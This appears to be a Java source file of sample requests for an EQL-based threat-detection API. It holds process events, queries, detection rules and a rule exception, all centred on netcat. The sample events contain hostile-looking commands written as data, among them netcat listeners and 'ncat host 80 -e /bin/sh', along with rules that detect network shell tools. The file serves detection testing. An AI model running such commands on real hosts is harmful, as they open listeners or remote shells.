package io.eqlair.api.http;

/** Requests to try, shown with the API's document. */
public final class Examples {

    /** Netcat opens a port on a Linux host. */
    public static final String LINUX_RULE_FIRES = """
            {
              "@timestamp": "2026-01-15T09:30:00.000Z",
              "event": {"category": ["process"], "type": ["start"], "action": "exec"},
              "host": {"name": "web-1", "os": {"type": "linux"}},
              "user": {"name": "www-data"},
              "process": {
                "name": "nc",
                "args": ["nc", "-nlvp", "4444"],
                "parent": {"name": "bash"}
              }
            }""";

    /** A shell starts netcat in a container. */
    public static final String CONTAINER_RULE_FIRES = """
            {
              "@timestamp": "2026-01-15T09:31:00.000Z",
              "event": {"category": ["process"], "type": ["start"], "action": "exec"},
              "host": {"name": "node-7", "os": {"type": "linux"}},
              "container": {"id": "3f1a9c"},
              "process": {
                "name": "bash",
                "args": ["bash", "-c", "nc", "-l", "-p", "9000"],
                "interactive": true
              }
            }""";

    /** Netcat only connects: neither listens nor hands on what it reads. */
    public static final String NOTHING_FIRES = """
            {
              "@timestamp": "2026-01-15T09:32:00.000Z",
              "event": {"category": ["process"], "type": ["start"], "action": "exec"},
              "host": {"name": "web-1", "os": {"type": "linux"}},
              "process": {"name": "nc", "args": ["nc", "10.0.0.1", "80"]}
            }""";

    /** One event to a line, of which the second breaks off. */
    public static final String NDJSON_BATCH = """
            {"event.category":"process","event.type":"start","event.action":"exec","host.os.type":"linux","process.name":"ncat","process.args":["ncat","host","80","-e","/bin/sh"]}
            {"event.category":"process","event.type":"start","host.os.type":
            {"event.category":"process","event.type":"start","event.action":"exec","host.os.type":"linux","process.name":"ls","process.args":["ls","-l"]}
            """;

    /** A query and two events, of which one matches. */
    public static final String SEARCH = """
            {
              "query": "process where process.name in (\\"nc\\", \\"ncat\\") and process.args : \\"-*l*\\"",
              "events": [
                {"@timestamp": "2026-01-15T09:30:00Z", "event": {"category": "process"}, "process": {"name": "nc", "args": ["nc", "-l"]}},
                {"@timestamp": "2026-01-15T09:31:00Z", "event": {"category": "process"}, "process": {"name": "ls", "args": ["ls", "-l"]}}
              ]
            }""";

    /** Two events of one host, in order. */
    public static final String SEQUENCE = """
            {
              "query": "sequence by host.id with maxspan=1m [process where process.name == \\"bash\\"] [network where true]",
              "events": [
                {"@timestamp": "2026-01-15T09:30:00Z", "event": {"category": "process"}, "host": {"id": "h1"}, "process": {"name": "bash"}},
                {"@timestamp": "2026-01-15T09:30:05Z", "event": {"category": "network"}, "host": {"id": "h1"}, "destination": {"ip": "192.0.2.1"}}
              ]
            }""";

    /** A rule that runs, and can never match. */
    public static final String RULE_WITH_SLIPS = """
            [rule]
            rule_id = "6a1f7c1e-4b0d-4c53-9f0e-2d9a5b7c3e10"
            name = "Netcat opens a port"
            description = "Somebody listens with netcat."
            severity = "medium"
            risk_score = 47
            type = "eql"
            query = '''
            process where proces.name == "nc*" and process.args == "-l"
            '''
            """;

    /** A rule in the notation of its file, and an event that it matches. */
    public static final String RULE_TEST = """
            {
              "rules": ["[rule]\\nrule_id = \\"3a4b6a2e-6d4c-4b8a-9f59-5d0b8f6c1e2d\\"\\nname = \\"Netcat was started\\"\\ndescription = \\"A test.\\"\\nseverity = \\"low\\"\\nrisk_score = 21\\ntype = \\"eql\\"\\nquery = 'process where process.name == \\"nc\\"'"],
              "events": [
                {"@timestamp": "2026-01-15T09:30:00Z", "event": {"category": "process"}, "process": {"name": "nc"}},
                {"@timestamp": "2026-01-15T09:31:00Z", "event": {"category": "process"}, "process": {"name": "ls"}}
              ]
            }""";

    /** A rule that ships with Eqlair. */
    public static final String LOADED_RULE_TEST = """
            {
              "rule_ids": ["adb961e0-cb74-42a0-af9e-29fc41f88f5f"],
              "events": [
                {"event": {"category": "process", "type": "start", "action": "exec"}, "host": {"os": {"type": "linux"}},
                 "process": {"name": "nc", "args": ["nc", "-nlvp", "4444"]}}
              ]
            }""";

    /** A rule to put. */
    public static final String RULE = """
            [rule]
            rule_id = "3f0c2c1e-6f1a-4c55-9d52-0b8a4a8d9c11"
            name = "Shell started by a web server"
            type = "eql"
            severity = "high"
            risk_score = 73
            query = '''
            process where event.type == "start" and process.parent.name in ("nginx", "httpd") and
              process.name in ("sh", "bash", "dash")
            '''
            """;

    /** Netcat of a backup agent is no alert, on two hosts or in a network. */
    public static final String EXCEPTION = """
            {
              "name": "backup agent",
              "comment": "Agreed with the storage team.",
              "rules": ["adb961e0-cb74-42a0-af9e-29fc41f88f5f"],
              "expires_at": "2027-01-01T00:00:00Z",
              "entries": [
                {"field": "process.name", "operator": "is", "value": "nc"},
                {"or": [
                  {"field": "host.name", "operator": "is_one_of", "value": ["backup-1", "backup-2"]},
                  {"field": "source.ip", "operator": "in_cidr", "value": "10.0.0.0/8"}
                ]}
              ]
            }""";

    private Examples() {}
}
